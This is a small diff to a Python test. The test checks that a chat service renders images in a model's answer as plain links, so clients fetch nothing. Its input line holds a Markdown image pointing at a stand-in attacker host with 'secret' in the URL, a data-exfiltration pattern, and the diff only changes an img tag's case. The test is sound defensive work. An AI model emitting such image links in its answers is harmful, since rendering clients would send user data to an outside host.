@@ -180,7 +180,7 @@ async def test_an_image_in_an_answer_is_shown_as_a_link(
     api: httpx.AsyncClient, model: ChatDouble, *, searches: bool
 ):
     """E-R1: a client that renders Markdown loads nothing that a model names."""
-    text = "Look: ![this](https://evil.example/?q=secret) <IMG src=x>"
+    text = "Look: ![this](https://evil.example/?q=secret) <img src=x>"
     answer = answer_call({"text": text}) if searches else Say(text)
     model.script(*([search_call()] if searches else []), answer)
     reply = await post_question(api, "what is there", provider="openai")
